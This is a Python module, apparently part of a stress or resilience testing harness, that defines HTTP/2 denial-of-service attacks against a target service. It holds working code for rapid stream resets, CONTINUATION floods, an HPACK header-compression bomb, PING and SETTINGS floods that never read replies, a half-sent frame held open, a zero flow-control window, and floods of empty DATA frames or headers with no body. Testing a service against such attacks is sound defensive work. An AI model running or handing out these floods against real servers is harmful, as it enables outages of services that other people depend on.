"""Frames of HTTP/2 that cost their sender little."""

import struct
import time

import http2
from crowd import attack
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS
from http2 import frame, header

from .connections import CONNECTIONS, DEFAULT_QUOTA, FEW

ADD_EVENT = http2.TRACKING + b"AddEvent"


def goaway(connection, seconds=5):
    """Reads to the end, and tells the code of the last GOAWAY."""
    code, read, until = None, b"", time.monotonic() + seconds
    connection.settimeout(0.5)
    while time.monotonic() < until:
        try:
            piece = connection.recv(65536)
        except TimeoutError:
            continue
        except ConnectionError:
            piece = b""
        read += piece
        while len(read) >= 9 and len(read) >= 9 + int.from_bytes(read[:3], "big"):
            length, kind = int.from_bytes(read[:3], "big"), read[3]
            if kind == GOAWAY:
                code = int.from_bytes(read[13:17], "big")
            read = read[9 + length:]
        if not piece:
            return "closed" if code is None else f"GOAWAY {http2.CODES.get(code, code)}"
    return "still open at the end"


def flood(target, first, pieces, settings=b""):
    """Sends all pieces, or as many as the service takes, and tells how it ends."""
    with http2.raw(target.address, settings) as connection:
        try:
            connection.sendall(first)
            for piece in pieces:
                connection.sendall(piece)
        except (ConnectionError, TimeoutError):
            pass
        return goaway(connection)


def unread(target, piece):
    """Sends on and never reads."""
    with http2.raw(target.address) as connection:
        try:
            while target.goes_on():
                connection.sendall(piece)
        except TimeoutError:
            return "not read from any more"
        except ConnectionError:
            return "closed"
    return "still open at the end"


@attack(4, server=FEW, rate_limit=DEFAULT_QUOTA)
def rapid_resets(target):
    cancel = struct.pack(">I", 8)
    pairs = (
        frame(HEADERS, END_HEADERS | END_STREAM, stream, http2.request()) + frame(RST_STREAM, 0, stream, cancel)
        for stream in range(1, 20_001, 2)
    )
    return flood(target, b"", [b"".join(pairs)])


@attack(4, server=FEW, rate_limit=DEFAULT_QUOTA)
def continuation_flood(target):
    piece = frame(CONTINUATION, 0, 1, header(b"a", b"b")) * 10_000
    return flood(target, frame(HEADERS, 0, 1, http2.request()), [piece] * 10)


@attack(4, server=FEW, rate_limit=DEFAULT_QUOTA)
def header_bombs(target):
    # One header of 3,000 bytes is remembered, and named 10,000 times by one byte each.
    long = b"\x40\x01x" + http2.length(3000) + b"y" * 3000
    bomb = http2.request() + long + b"\xbe" * 10_000
    return flood(target, frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb), [])


@attack(4, server=FEW, rate_limit=DEFAULT_QUOTA)
def empty_data(target):
    return flood(target, frame(HEADERS, END_HEADERS, 1, http2.call(ADD_EVENT)), [frame(DATA, 0, 1) * 10_000] * 10)


@attack(2, server=FEW, rate_limit=DEFAULT_QUOTA)
def ping_flood(target):
    return unread(target, frame(PING, 0, 0, b"12345678") * 1000)


@attack(2, server=FEW, rate_limit=DEFAULT_QUOTA)
def settings_flood(target):
    return unread(target, frame(SETTINGS, 0, 0) * 1000)


@attack(CONNECTIONS, server=FEW, rate_limit=DEFAULT_QUOTA)
def half_a_frame(target):
    with http2.raw(target.address) as connection:
        connection.sendall(frame(HEADERS, 0, 1, http2.request())[:20])
        return goaway(connection)


@attack(4, server=FEW, rate_limit=DEFAULT_QUOTA)
def no_window(target):
    streams = range(1, 400, 2)
    requests = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, http2.request()) for stream in streams)
    return flood(target, b"", [requests], struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 0))


@attack(4, server=FEW, rate_limit=DEFAULT_QUOTA)
def calls_without_a_message(target):
    head = http2.call(ADD_EVENT)
    return flood(target, b"", [frame(HEADERS, END_HEADERS, stream, head) for stream in range(1, 400, 2)])
